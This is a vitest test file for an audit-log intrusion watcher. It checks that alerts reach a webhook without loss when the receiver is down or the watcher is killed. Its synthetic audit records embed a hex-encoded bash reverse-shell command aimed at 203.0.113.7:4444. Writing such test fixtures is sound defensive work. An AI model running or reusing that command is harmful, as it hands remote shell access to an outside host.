import { appendFileSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { startWatch, type RunningWatch } from './support/running-watch.ts';

let folder: string;
let watch: RunningWatch | undefined;
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'vakthund-kills-'));
  mkdirSync(join(folder, 'logs'));
});
afterEach(async () => {
  await watch?.end('SIGKILL');
  rmSync(folder, { recursive: true, force: true });
});

/** Each on a machine of its own, so that none is a repeat. */
const reverseShell = (serial: number): string => {
  const id = `node=host${serial} type=`;
  const at = `msg=audit(${(Date.now() / 1000).toFixed(3)}:${serial}):`;
  const command = Buffer.from('bash -i >& /dev/tcp/203.0.113.7/4444 0>&1').toString('hex').toUpperCase();
  return [
    `${id}SYSCALL ${at} arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 items=2 ppid=1 pid=${serial} auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=1 comm="bash" exe="/usr/bin/bash" key="exec"`,
    `${id}EXECVE ${at} argc=3 a0="bash" a1="-c" a2=${command}`,
    `${id}EOE ${at} `,
    '',
  ].join('\n');
};

const rounds = 4;
const perRound = 10;

describe('delivery', () => {
  it(
    'outlives a receiver that is down and a watch that is killed: nothing is lost, and what comes twice has the same id',
    { timeout: 600_000 },
    async () => {
      let isUp = false;
      const taken: { readonly id: string; readonly host: string; readonly detector: string }[] = [];
      const server = createServer((request, response) => {
        let body = '';
        request.on('data', (part) => (body += String(part)));
        request.on('end', () => {
          const { id, notice } = JSON.parse(body) as { id: string; notice: { host?: string; detector?: string } };
          const { host = '', detector = '' } = notice;
          // That a watch was killed is told as well, of the machine itself.
          if (isUp && host.startsWith('host')) taken.push({ id, host, detector });
          response.writeHead(isUp ? 200 : 503).end();
        });
      });
      await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
      const { port } = server.address() as AddressInfo;
      const log = join(folder, 'logs', 'audit.log');
      writeFileSync(log, '');
      const start = (): RunningWatch => {
        const place = ['--case', join(folder, 'case'), '--judge-every', '3600'];
        return startWatch(join(folder, 'logs'), ...place, '--webhook', `http://127.0.0.1:${port}/`);
      };
      const isJudged = (notices: Record<string, unknown>[]): boolean => notices.some(({ type }) => type === 'status');
      let serial = 0;
      for (let round = 0; round < rounds; round++) {
        isUp = round % 2 === 1;
        watch = start();
        await watch.until(isJudged);
        for (let line = 0; line < perRound; line++) {
          appendFileSync(log, reverseShell(++serial));
          await sleep(20);
        }
        // In the middle of reading, telling or sending: wherever it happens to be.
        await sleep(round * 37);
        await watch.end('SIGKILL');
      }
      isUp = true;
      watch = start();
      await watch.until(isJudged);
      const wanted = Array.from({ length: serial }, (_, at) => `host${at + 1}`);
      const isMissing = (): string[] => wanted.filter((name) => !taken.some(({ host }) => host === name));
      for (let tries = 0; tries < 1200 && isMissing().length > 0; tries++) await sleep(50);
      expect(isMissing()).toEqual([]);
      expect(await watch.end('SIGTERM')).toBe(0);
      // Twice is only what was sent and not yet noted as taken when the watch was killed: one message a kill at most.
      const ids = new Set(taken.map(({ id }) => id));
      const told = new Set(taken.map(({ host, detector }) => `${host} ${detector}`));
      expect(taken.length - ids.size).toBeLessThanOrEqual(rounds);
      expect(ids.size).toBe(told.size);
      await new Promise((done) => server.close(done));
    },
  );
});
